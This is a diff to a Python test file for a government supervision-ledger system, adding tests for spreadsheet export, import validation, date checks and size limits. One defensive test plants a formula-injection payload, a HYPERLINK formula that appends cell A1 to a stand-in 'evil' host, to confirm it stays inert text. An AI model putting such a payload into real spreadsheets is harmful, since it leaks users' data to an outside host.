@@ -19,7 +19,7 @@ from govgrid.services.ledger_export import export_csv, export_xlsx
 from govgrid.services.ledger_import import LedgerRejected, import_ledger
 from govgrid.services.ledger_views import LedgerFilter
 from tests.databases import fresh_database
-from tests.factories import build_district
+from tests.factories import add_demo_ledger_units, build_district
 from tests.services.test_cases import who
 from tests.services.test_ledgers import RULES
 
@@ -51,6 +51,7 @@ def own(empty_sessions):
 
 
 def demo(session, now=NOW):
+    add_demo_ledger_units(session)
     return build_demo_ledger(session, rules=RULES, area_code="370102", now=now)
 
 
@@ -110,7 +111,7 @@ def test_exporting_the_demo_ledger_and_importing_it_into_an_empty_database_gives
     workbook = export_xlsx(own, actor=who(own, "supervisor"), wanted=LedgerFilter(), now=NOW)
     with other_database(tmp_path) as fresh:
         build_district(fresh)
-        fresh.commit()
+        add_demo_ledger_units(fresh)
         result = import_ledger(fresh, actor=who(fresh, "supervisor"), rules=RULES, data=workbook,
                                filename="督办台账.xlsx", area_code="370102", now=NOW)  # fmt: skip
         assert sorted(result.campaigns) == ["DS-HJ", "LX-JD", "SZ-JT", "ZQ-LD"]
@@ -243,3 +244,110 @@ def test_only_a_supervisor_imports_a_ledger(session, district):
     with pytest.raises(Forbidden):
         import_ledger(session, actor=who(session, "dept_officer"), rules=RULES, data=office_workbook(good_rows()),
                       filename="台账.xlsx", area_code="370102", now=NOW)  # fmt: skip
+
+
+def test_text_that_looks_like_a_formula_stays_text_in_the_export_and_comes_back_unchanged(own, tmp_path):
+    demo(own)
+    task = own.scalar(
+        select(LedgerItem).where(LedgerItem.kind == "task", LedgerItem.lead_unit_id.is_not(None))
+    )
+    own.add(ProgressReport(item_id=task.id, kind="progress", reported_at=NOW, reported_by="dept_officer",
+                           value_reached=1, narrative='=HYPERLINK("http://evil/?"&A1,"点击")'))  # fmt: skip
+    task.consequence = "=1+1"
+    own.commit()
+    data = export_xlsx(
+        own, actor=who(own, "supervisor"), wanted=LedgerFilter(campaign_id=task.campaign_id), now=NOW
+    )
+    book = load_workbook(io.BytesIO(data))
+    cells = [c for row in book["进展记录"].iter_rows() for c in row if str(c.value).startswith("=HYPERLINK")]
+    assert cells and all(c.data_type == "s" for c in cells)
+    text = export_csv(own, actor=who(own, "supervisor"), wanted=LedgerFilter(campaign_id=task.campaign_id))
+    assert "'=1+1" in text.decode("utf-8-sig")
+    with other_database(tmp_path) as fresh:
+        build_district(fresh)
+        add_demo_ledger_units(fresh)
+        import_ledger(fresh, actor=who(fresh, "supervisor"), rules=RULES, data=data, filename="a.xlsx",
+                      area_code="370102", now=NOW)  # fmt: skip
+        assert fresh.scalar(
+            select(ProgressReport.id).where(ProgressReport.narrative.startswith("=HYPERLINK"))
+        )
+        assert fresh.scalar(select(LedgerItem.id).where(LedgerItem.consequence == "=1+1"))
+
+
+def test_bad_cells_the_review_found_are_each_reported(session, district):
+    book = Workbook()
+    items = book.active
+    items.title = "督办台账"
+    items.append(
+        [
+            "序号",
+            "上级序号",
+            "层级",
+            "工作内容",
+            "指标名称",
+            "目标值",
+            "指标方向",
+            "牵头单位",
+            "完成时限",
+            "权重",
+        ]
+    )
+    items.append(["ZX-REV", None, "行动", "复核", None, None, None, None, None, None])
+    items.append(["1", "ZX-REV", "项目", "无人牵头的项目", None, None, None, None, "2026-12-31", None])
+    items.append(
+        ["2", "ZX-REV", "任务", "压减", "能耗", "30", "下降", "历下区城市管理局", "2026-12-31", None]
+    )
+    items.append(["3", "ZX-REV", "任务", "x" * 10, None, None, None, "历下区城市管理局", "2026-12-31", None])
+    items[5][0].value = "超长序号" * 10
+    reports = book.create_sheet("进展记录")
+    reports.append(["事项序号", "填报时间", "完成值", "进展情况"])
+    reports.append(["ZX-REV/2", "2031-01-01 10:00", "3-5", "未来的填报"])
+    reports.append(["ZX-REV/2", datetime(2026, 5, 1, 10), datetime(2026, 1, 1), "日期格式的完成值"])
+    money = book.create_sheet("投资计划")
+    money.append(["事项序号", "月份", "计划投资（万元）"])
+    money.append(["ZX-REV/1", "2026-03", 100])
+    money.append(["ZX-REV/1", "2026-3", -5])
+    out = io.BytesIO()
+    book.save(out)
+    with pytest.raises(LedgerRejected) as rejected:
+        import_ledger(session, actor=who(session, "supervisor"), rules=RULES, data=out.getvalue(),
+                      filename="复核.xlsx", area_code="370102", now=NOW)  # fmt: skip
+    found = {(e.sheet, e.row, e.column) for e in rejected.value.errors}
+    assert {("督办台账", 3, "牵头单位"), ("督办台账", 4, "目标值"), ("督办台账", 5, "序号"),
+            ("进展记录", 2, "完成值"), ("进展记录", 3, "完成值"),
+            ("投资计划", 3, "计划投资（万元）")} <= found, rejected.value.errors  # fmt: skip
+    assert (
+        session.scalar(select(func.count()).select_from(LedgerItem).where(LedgerItem.number == "ZX-REV")) == 0
+    )
+
+
+def test_a_report_from_the_future_and_a_repeated_month_are_refused(session, district):
+    book = Workbook()
+    items = book.active
+    items.title = "督办台账"
+    items.append(["序号", "上级序号", "层级", "工作内容", "牵头单位", "完成时限"])
+    items.append(["ZX-FUT", None, "行动", "未来", None, None])
+    items.append(["1", "ZX-FUT", "项目", "项目", "历下区城市管理局", "2026-12-31"])
+    reports = book.create_sheet("进展记录")
+    reports.append(["事项序号", "填报时间", "完成值", "进展情况"])
+    reports.append(["ZX-FUT/1", "2031-01-01 10:00", 3, "未来的填报"])
+    money = book.create_sheet("投资计划")
+    money.append(["事项序号", "月份", "计划投资（万元）"])
+    money.append(["ZX-FUT/1", "2026-03", 100])
+    money.append(["ZX-FUT/1", "2026-3", 50])
+    out = io.BytesIO()
+    book.save(out)
+    with pytest.raises(LedgerRejected) as rejected:
+        import_ledger(session, actor=who(session, "supervisor"), rules=RULES, data=out.getvalue(),
+                      filename="未来.xlsx", area_code="370102", now=NOW)  # fmt: skip
+    assert {(e.sheet, e.row, e.column) for e in rejected.value.errors} == {("进展记录", 2, "填报时间"),
+                                                                          ("投资计划", 3, "月份")}  # fmt: skip
+
+
+def test_a_file_over_the_size_limit_is_refused_not_cut(session, district):
+    from govgrid.services.ledger_import import MAX_BYTES
+
+    data = ("序号,层级,工作内容,牵头单位,完成时限\n" + "1,任务,x,y,2026-12-31\n" * (MAX_BYTES // 20)).encode()
+    with pytest.raises(LedgerRejected, match="MB"):
+        import_ledger(session, actor=who(session, "supervisor"), rules=RULES, data=data, filename="big.csv",
+                      area_code="370102", now=NOW)  # fmt: skip
